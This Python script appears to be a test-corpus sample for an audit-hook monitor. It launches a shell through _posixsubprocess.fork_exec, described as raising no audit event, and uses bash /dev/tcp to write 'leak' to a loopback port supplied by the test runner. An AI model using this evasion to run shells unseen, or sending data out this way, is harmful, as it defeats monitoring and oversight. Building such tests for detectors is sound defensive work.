"""A fork_exec bash opens a TCP connection to a port listening on the host's loopback."""

import _posixsubprocess
import os
import sys

T = {}  # the corpus runner puts the targets here


def shell(script):
    """Run /bin/sh through _posixsubprocess.fork_exec, which raises no audit event; exit with its status."""
    errpipe_read, errpipe_write = os.pipe()
    args = ([b"/bin/sh", b"-c", script.encode()], [b"/bin/sh"], True, (), None, None)
    args += (-1, -1, -1, -1, -1, -1, errpipe_read, errpipe_write, True, False, -1, None, None, None, -1, None)
    try:
        pid = _posixsubprocess.fork_exec(*args, False)  # 3.12+ and recent 3.11 builds: allow_vfork
    except TypeError:
        pid = _posixsubprocess.fork_exec(*args)
    os.close(errpipe_write)
    _, status = os.waitpid(pid, 0)
    sys.exit(os.waitstatus_to_exitcode(status))


port = T["port"]
shell(f"exec bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port} && echo leak >&3'")
